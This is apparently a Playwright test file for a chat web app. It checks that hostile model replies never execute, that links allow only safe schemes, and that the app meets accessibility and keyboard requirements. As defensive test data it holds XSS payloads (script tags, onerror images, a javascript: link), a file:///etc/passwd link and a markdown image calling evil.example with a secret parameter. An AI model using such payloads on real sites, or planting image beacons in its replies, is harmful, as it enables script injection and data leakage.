"""What a model's words may do in a real browser (nothing), and what a person without mouse or eyes can do (all)."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from apprun import App, claudedesk
from browser.test_main_job import complete, replies, say
from fakeapi import FakeAPI
from render.corpus import PAYLOADS

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
AXE_TAGS = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]
SINK = "() => window.__ran || 0"


GROUP = 12


def hostile_replies() -> list[str]:
    """The corpus as a few replies, its payloads apart from each other; those that swallow what follows come last."""
    # Lone surrogates cannot travel as UTF-8; the unit tests have them.
    sendable = [text.encode("utf-8", "replace").decode() for text in PAYLOADS.values()]
    texts = sorted(sendable, key=lambda text: any(mark in text for mark in ("```", "~~~", "$$", "\\[")))
    groups = [texts[at : at + GROUP] for at in range(0, len(texts), GROUP)]
    return ["\n\n".join(f"Number {n}\n\n{text}\n" for n, text in enumerate(group)) for group in groups]


def test_no_payload_runs_or_reaches_out_live_stored_or_searched(app: App, opened: Any, fake: FakeAPI) -> None:
    """SEC-10, SEC-11: the `opened` fixture fails on any foreign request and on any script error."""
    page = opened(app)
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    page.evaluate("() => { window.alert = window.confirm = window.prompt = () => { window.__ran = 1 } }")
    address = page.url
    for number, text in enumerate(hostile_replies(), 1):
        fake.reply(text=text, delta_chars=23)
        say(page, f"<script>alert({number})</script><img src=x onerror=alert(1)> zeppelin")
        complete(page, number, timeout=30_000)
        assert "Number 1" in replies(page).last.inner_text()
    assert page.evaluate(SINK) == 0
    assert page.url.startswith(address)
    page.reload()
    complete(page, len(hostile_replies()))
    assert page.locator("[data-transcript]").locator(FORBIDDEN).count() == 0
    page.goto(f"{app.base}/history/?q=zeppelin")
    page.locator("mark").first.wait_for()
    assert page.locator("main").locator("script, img").count() == 0


FORBIDDEN = "script, iframe, img, object, embed, form, base, meta, link, style, video, audio"


def test_links_leave_through_a_window_of_their_own_and_only_for_safe_schemes(
    app: App, opened: Any, fake: FakeAPI
) -> None:
    """SEC-12, SEC-13"""
    page = opened(app)
    words = "[a](https://example.org/x) [b](javascript:alert(1)) [c](file:///etc/passwd) <mailto:a@b.cd>"
    fake.reply(text=words + "\n\n![chart](https://evil.example/c.png?secret=1)")
    say(page, "Links")
    complete(page)
    links = replies(page).locator("[data-body] a")
    found = [links.nth(i).get_attribute("href") for i in range(links.count())]
    assert found and all(href.startswith(("https://", "mailto:")) for href in found)
    assert (
        "noopener" in (links.first.get_attribute("rel") or "")
        and links.first.get_attribute("target") == "_blank"
    )
    assert "evil.example" in replies(page).inner_text(), "a remote image shows its host"


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 480])
def test_every_screen_is_clean_for_axe(
    app: App, opened: Callable[..., Any], fake: FakeAPI, theme: Any, width: int
) -> None:
    from axe_playwright_python.sync_playwright import Axe

    page = opened(app, viewport={"width": width, "height": 800}, color_scheme=theme, reduced_motion="reduce")
    fake.reply(
        text="# Title\n\nText with `code` and $x^2$.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "```python\nprint('hi')\n```\n"
        "\n- [x] done\n- [ ] open\n\n> quote\n\n[link](https://example.org)",
        thinking="Hm.",
    )
    say(page, "Everything")
    complete(page)
    fake.fault("overloaded_529")
    say(page, "And an error")
    page.wait_for_selector("article[data-status=failed]")
    problems: list[str] = []
    chat = page.url
    for path in (chat, f"{app.base}/chat/", f"{app.base}/history/", f"{app.base}/history/?q=title",
                 f"{app.base}/usage/", f"{app.base}/settings/", f"{app.base}/chat/c_{0:022d}"):  # fmt: skip
        page.goto(path)
        page.wait_for_timeout(150)
        told = Axe().run(page, options={"runOnly": {"type": "tag", "values": AXE_TAGS}}).response
        problems += [f"{path}: {v['id']} {v['nodes'][0]['html'][:120]}" for v in told["violations"]]
        wide = page.evaluate("() => document.documentElement.scrollWidth - innerWidth")
        if wide > 0:
            problems.append(f"{path}: {wide} px too wide")
    assert not problems, "\n".join(problems)


def test_the_main_job_needs_no_mouse(app: App, opened: Any, fake: FakeAPI) -> None:
    page = opened(app)
    page.keyboard.press("Tab")
    assert page.evaluate("() => document.activeElement !== document.body")
    box = page.get_by_role("textbox", name="Message")
    for _ in range(40):
        if box.evaluate("box => box === document.activeElement"):
            break
        page.keyboard.press("Tab")
    page.keyboard.type("By keyboard")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("second line")
    held = fake.reply(text="Hello there, keyboard", delta_chars=3, hold=6)
    page.keyboard.press("Enter")
    page.wait_for_selector("text=Hello")
    page.keyboard.press("Escape")
    page.wait_for_selector("article[data-status=stopped]")
    held.release()
    assert fake.last.body["messages"][0]["content"][0]["text"] == "By keyboard\nsecond line"
    page.keyboard.press("Control+,")
    page.wait_for_url("**/settings/**")


def test_the_names_of_the_contract_are_there(app: App, opened: Any, fake: FakeAPI) -> None:
    """UX §2: screen readers and tests find things by them."""
    page = opened(app)
    for role, name in (
        ("navigation", "Conversations"), ("navigation", "Main"), ("searchbox", "Search conversations"),
        ("log", "Transcript"), ("textbox", "Message"), ("button", "Send"), ("combobox", "Model"),
    ):  # fmt: skip
        page.get_by_role(role, name=name, exact=True).first.wait_for(state="attached")
    main = page.get_by_role("navigation", name="Main")
    assert [main.get_by_role("link").nth(i).inner_text() for i in range(4)] == [
        "Chat",
        "History",
        "Usage",
        "Settings",
    ]
    page.goto(f"{app.base}/settings/")
    for role, name in (
        ("textbox", "API key"), ("button", "Save key"), ("button", "Remove key"), ("button", "Check key"),
        ("combobox", "Default model"), ("radiogroup", "Theme"),
    ):  # fmt: skip
        page.get_by_role(role, name=name, exact=True).wait_for(state="attached")
    page.goto(f"{app.base}/history/")
    page.get_by_role("searchbox", name="Search history").wait_for()


def test_settings_take_effect_at_once(app: App, opened: Any) -> None:
    page = opened(app)
    page.goto(f"{app.base}/settings/")
    page.get_by_role("radio", name="Dark").check(force=True)
    page.wait_for_selector("html[data-theme=dark]")
    page.reload()
    page.wait_for_selector("html[data-theme=dark]")
    assert claudedesk("settings", "get", "appearance.theme", env=app.env).stdout == "dark\n"
